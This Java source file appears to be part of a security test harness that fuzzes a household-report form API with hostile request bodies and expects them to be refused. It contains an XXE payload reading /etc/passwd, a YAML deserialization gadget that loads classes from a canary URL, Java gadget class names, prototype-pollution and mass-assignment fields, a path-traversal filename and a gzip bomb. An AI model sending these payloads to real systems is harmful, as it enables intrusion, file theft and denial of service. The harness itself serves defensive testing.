package cn.shouwang.bench.drill.intruder;

import static cn.shouwang.bench.drill.intruder.Attack.refused;
import static cn.shouwang.bench.drill.intruder.Attack.stored;
import static cn.shouwang.bench.drill.intruder.World.any;

import cn.shouwang.bench.drill.intruder.Attack.Leave;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

/// Forms that say more than they are asked, or say it in another form: who fills them in may fill in good
/// ones of the same kind, so nothing but the form stands in the way.
final class FalseForms {

    private static final Family FAMILY = Family.FORMS;
    private static final List<String> OWN = List.of("/public/reports", "/reports", "/households", "/clues");

    /// What a form must not set, whatever it is set to.
    private static final List<String> ASSIGNED = List.of(
            "\"division\":\"440233\"",
            "\"role\":\"COUNTY_OFFICER\"",
            "\"actor\":{\"id\":\"county-officer\",\"role\":\"SYSTEM\",\"division\":\"44\",\"channel\":\"SYSTEM\"}",
            "\"state\":\"ACCEPTED\"",
            "\"_id\":\"1\"",
            "\"$set\":{\"division\":\"440233\"}",
            "\"@class\":\"javax.script.ScriptEngineManager\"",
            "\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"",
            "\"class\":\"java.lang.Runtime\"",
            "\"__proto__\":{\"role\":\"COUNTY_OFFICER\"}",
            "\"constructor\":{\"prototype\":{\"role\":\"SYSTEM\"}}",
            "\"channel\":\"SYSTEM\"",
            "\"recordedAt\":\"2020-01-01T00:00:00Z\"",
            "\"report\":\"0000000000000000\"",
            "\"id\":\"1\"",
            "\"stream\":\"line-440233-2025\"",
            "\"sequence\":0",
            "\"position\":0");

    private final World world;
    private final SplittableRandom random;

    private FalseForms(World world, SplittableRandom random) {
        this.world = world;
        this.random = random;
    }

    static Stream<Attack> attacks(World world, SplittableRandom random) {
        var maker = new FalseForms(world, random);
        return Family.inTurn(List.of(
                maker::more,
                maker::moreInside,
                maker::twice,
                maker::another,
                maker::otherShape,
                maker::nothings,
                maker::numbers,
                maker::deep,
                maker::lengthy,
                maker::letters,
                maker::encodings,
                maker::otherTypes,
                maker::nearlyJson,
                maker::more));
    }

    /// A form somebody may send, where to, and who.
    private record Good(Door door, String target, String body, Intruder by) {

        Request json(String other) {
            return Request.post(door, target, other).by(by);
        }

        Request of(String type, byte[] bytes) {
            var request = Request.of(door, "POST", target);
            return (type.isEmpty() ? request : request.with("Content-Type", type))
                    .carrying(() -> bytes)
                    .by(by);
        }
    }

    private Good good() {
        var endpoint = any(
                world.commands().stream()
                        .filter(one -> OWN.contains(one.path()))
                        .toList(),
                random);
        var by = endpoint.isPublic() ? world.nobody() : world.intruder(World.SISTER);
        var door = world.door(endpoint, random.nextInt(3) == 0);
        var body = Paper.body(endpoint, "440233101200", World.uuid(random));
        return new Good(door, World.target(door, endpoint, Map.of()), body, by);
    }

    private static String with(String body, String field) {
        return "{" + field + "," + body.substring(1);
    }

    private Attack more() {
        var good = good();
        return refused(FAMILY, good.by(), good.json(with(good.body(), any(ASSIGNED, random))));
    }

    private Attack moreInside() {
        var good = good();
        var inside = good.body()
                .replaceFirst("\"person\":\\{", Matcher.quoteReplacement("\"person\":{" + any(ASSIGNED, random) + ","));
        return refused(
                FAMILY,
                good.by(),
                good.json(inside.equals(good.body()) ? with(inside, any(ASSIGNED, random)) : inside));
    }

    /// The last of two equal names counts, or the form is refused: never the first for one and the last
    /// for another reader.
    private Attack twice() {
        var good = good();
        var village = "\"village\":\"" + any(Planting.VILLAGES, random) + "\"";
        var last = good.body().substring(0, good.body().length() - 1) + "," + village + "}";
        return random.nextBoolean() || good.by().isNobody()
                ? stored(FAMILY, good.by(), good.json(with(good.body(), village)))
                : refused(FAMILY, good.by(), good.json(last));
    }

    /// A good form about another village.
    private Attack another() {
        var good = good();
        var elsewhere = any(
                List.of(
                        "440233101203",
                        "440233100201",
                        "440222101200",
                        "440233",
                        "440233101",
                        "44023310120",
                        "*",
                        ".*"),
                random);
        var body = good.body().replace("440233101200", elsewhere);
        return good.by().isNobody()
                ? stored(FAMILY, good.by(), good.json(body))
                : refused(FAMILY, good.by(), good.json(body));
    }

    private Attack otherShape() {
        var good = good();
        var body = good.body();
        return refused(
                FAMILY,
                good.by(),
                good.json(
                        switch (random.nextInt(10)) {
                            case 0 -> "[" + body + "]";
                            case 1 -> "{\"0\":" + body + "}";
                            case 2 -> "\"" + body.replace("\"", "\\\"") + "\"";
                            case 3 -> body.replaceFirst(":\"([^\"]*)\"", ":[\"$1\"]");
                            case 4 -> body.replaceFirst(":\"([^\"]*)\"", ":{\"value\":\"$1\"}");
                            case 5 -> body.replaceAll("\\[[^\\[\\]]*\\]", "{\"0\":\"ILLNESS\"}");
                            case 6 -> "[]";
                            case 7 -> ordinals(body, "0");
                            case 8 -> ordinals(body, "\"0\"");
                            default -> any(List.of("1", "true", "\"\"", "null", "{}"), random);
                        }));
    }

    /// The place of a word in a list of ours instead of the word.
    private static String ordinals(String body, String ordinal) {
        return body.replace("\"ILLNESS\"", ordinal).replace("\"HEAD\"", ordinal);
    }

    private Attack nothings() {
        var good = good();
        return switch (random.nextInt(4)) {
            case 0 -> refused(FAMILY, good.by(), good.json(good.body().replaceAll(":(\"[^\"]*\"|\\d+)", ":null")));
            case 1 -> refused(FAMILY, good.by(), good.json(good.body().replaceFirst(":\"[^\"]*\"", ":null")));
            case 2 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.json(good.body().replace("\"ILLNESS\"", "null").replace("\"HEAD\"", "null")));
            default -> refused(FAMILY, good.by(), good.json(good.body().replaceAll(":\"[^\"]*\"", ":\"\"")));
        };
    }

    private Attack numbers() {
        var good = good();
        var hostile = any(
                List.of(
                        "-1",
                        "0",
                        "1e400",
                        "-1e400",
                        "NaN",
                        "Infinity",
                        "9223372036854775808",
                        "2147483648",
                        "1" + "0".repeat(random.nextInt(30, 2_000)),
                        "0x10",
                        "01",
                        "+1",
                        "1.",
                        "1e2147483647",
                        "0.1e-2147483648",
                        "true"),
                random);
        var body = good.body().contains("\"members\":2")
                ? good.body().replace("\"members\":2", "\"members\":" + hostile)
                : good.body().replaceFirst("\"on\":\"[^\"]*\"", "\"on\":" + hostile);
        if (random.nextInt(4) == 0) {
            var text = any(List.of("\"2\"", "2.0", "2.5", "\" 2\""), random);
            return stored(FAMILY, good.by(), good.json(good.body().replace("\"members\":2", "\"members\":" + text)));
        }
        return refused(FAMILY, good.by(), good.json(body));
    }

    private Attack deep() {
        var good = good();
        var depth = any(List.of(10, 100, 500, 999, 1_000, 1_001, 5_000, 20_000, 100_000), random);
        var open = random.nextBoolean() ? "[" : "{\"a\":";
        var close = open.equals("[") ? "]" : "}";
        var nested = open.repeat(depth) + "1" + close.repeat(depth);
        return refused(
                FAMILY, good.by(), good.json(random.nextBoolean() ? nested : with(good.body(), "\"a\":" + nested)));
    }

    private Attack lengthy() {
        var good = good();
        var length = any(List.of(41, 61, 501, 2_001, 20_000, 200_000, 900_000), random);
        var letter = any(List.of("a", "龘", "\\u0000", " a", "a\u0301"), random);
        var text = letter.repeat(length / letter.length() + 41);
        return refused(
                FAMILY,
                good.by(),
                good.json(
                        random.nextInt(3) == 0
                                ? with(good.body(), "\"" + text + "\":1")
                                : good.body().replace(Paper.NAME, text)));
    }

    private Attack letters() {
        var good = good();
        var odd = any(
                List.of(
                        "\\u202e\\u2066abc\\u2069",
                        "\\u200b\\u200d\\ufeff",
                        "\\ud800",
                        "\\udc00\\ud800",
                        "\\u0000",
                        "\\u0007\\u001b[31m",
                        "\\ufffe\\uffff",
                        "ﷺ".repeat(100),
                        "Z" + "\\u0335".repeat(150),
                        "𝕏😀🏳️‍🌈",
                        "\\\\u0000",
                        "\\r\\n\\r\\n",
                        "İıſK"),
                random);
        var body = random.nextBoolean()
                ? good.body().replace("看病花费大", odd).replace("支出明显增加", odd).replace("一组", odd)
                : good.body().replace(Paper.NAME, "示" + odd);
        return stored(FAMILY, good.by(), good.json(body));
    }

    /// Bytes that are not the UTF-8 they should be.
    private Attack encodings() {
        var good = good();
        var utf8 = good.body().getBytes(StandardCharsets.UTF_8);
        var broken =
                good.body().replace("看病花费大", "\u0001").replace("一组", "\u0001").replace("支出明显增加", "\u0001");
        return switch (random.nextInt(9)) {
            case 0 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.of("application/json;charset=utf-16", good.body().getBytes(StandardCharsets.UTF_16)));
            case 1 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.of("application/json", good.body().getBytes(StandardCharsets.UTF_16LE)));
            case 2 ->
                stored(
                        FAMILY,
                        good.by(),
                        good.of("application/json", ("\ufeff" + good.body()).getBytes(StandardCharsets.UTF_8)));
            case 3 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.of("application/json;charset=gbk", good.body().getBytes(Charset.forName("GBK"))));
            case 4 -> refused(FAMILY, good.by(), good.of("application/json;charset=nonsense", utf8));
            case 5 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.of("application/json", bytes(broken, "\u00c0\u00af\u00e0\u0080\u00af")));
            case 6 ->
                refused(
                        FAMILY,
                        good.by(),
                        good.of("application/json", bytes(broken, "\u00ed\u00a0\u0080\u00ff\u00fe")));
            case 7 -> refused(FAMILY, good.by(), good.of("application/json", packed(utf8)));
            default ->
                refused(
                        FAMILY,
                        good.by(),
                        Request.of(good.door(), "POST", good.target())
                                .with("Content-Type", "application/json")
                                .with("Content-Encoding", any(List.of("gzip", "deflate", "br", "gzip, gzip"), random))
                                .carrying(() -> packed("[".repeat(20_000_000).getBytes(StandardCharsets.US_ASCII)))
                                .by(good.by()));
        };
    }

    private static byte[] bytes(String body, String instead) {
        return Request.utf8(body).replace("\u0001", instead).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] packed(byte[] bytes) {
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private Attack otherTypes() {
        var good = good();
        var utf8 = good.body().getBytes(StandardCharsets.UTF_8);
        var xml = ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"http://127.0.0.1:" + world.canary()
                        + "/x\"><!ENTITY p SYSTEM \"file:///etc/passwd\">]><a>&x;&p;</a>")
                .getBytes(StandardCharsets.UTF_8);
        var yaml =
                ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:"
                                + world.canary() + "/\"]]]]")
                        .getBytes(StandardCharsets.UTF_8);
        var parts = """
                --b\r
                Content-Disposition: form-data; name="village"; filename="../../a.jsp"\r
                \r
                440233101200\r
                --b--\r
                """.getBytes(StandardCharsets.UTF_8);
        var request =
                switch (random.nextInt(9)) {
                    case 0 -> good.of(any(List.of("text/plain", "text/json", "application/javascript"), random), utf8);
                    case 1 -> good.of(any(List.of("application/xml", "text/xml", "application/soap+xml"), random), xml);
                    case 2 ->
                        good.of(any(List.of("application/yaml", "text/yaml", "application/x-yaml"), random), yaml);
                    case 3 -> good.of("multipart/form-data; boundary=b", parts);
                    case 4 ->
                        good.of(
                                "application/x-www-form-urlencoded",
                                "village=440233101200&members=2".getBytes(StandardCharsets.US_ASCII));
                    case 5 -> good.of("", utf8);
                    case 6 ->
                        good.of(
                                any(
                                        List.of(
                                                "application/x-java-serialized-object",
                                                "application/cbor",
                                                "application/x-ndjson",
                                                "application/x-protobuf"),
                                        random),
                                serialised());
                    case 7 ->
                        good.of(
                                any(
                                        List.of(
                                                "application",
                                                "a/b/c",
                                                "*/*",
                                                "application/json, text/xml",
                                                "application/json; boundary=\"",
                                                ";;;",
                                                "application/*"),
                                        random),
                                utf8);
                    default -> good.of("application/json", xml);
                };
        return refused(FAMILY, good.by(), request).without("root:x:");
    }

    /// The head of a Java object stream.
    private static byte[] serialised() {
        return new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 's', 'r', 0, 17, 'j', 'a', 'v', 'a'};
    }

    private Attack nearlyJson() {
        var good = good();
        var body = good.body();
        return random.nextInt(4) == 0
                ? stored(FAMILY, good.by(), good.json(body + any(List.of("{}", " ]", "\u0000", body, "//"), random)))
                : refused(
                                FAMILY,
                                good.by(),
                                good.json(
                                        switch (random.nextInt(7)) {
                                            case 0 -> body.replace('"', '\'');
                                            case 1 -> "/* */" + body;
                                            case 2 -> body.substring(0, random.nextInt(body.length()));
                                            case 3 -> body.replaceAll("\"(\\w+)\":", "$1:");
                                            case 4 -> ")]}',\n" + body;
                                            case 5 -> body.replace("}", ",}");
                                            default -> "callback(" + body + ")";
                                        }))
                        .leaving(Leave.CLOSE);
    }
}
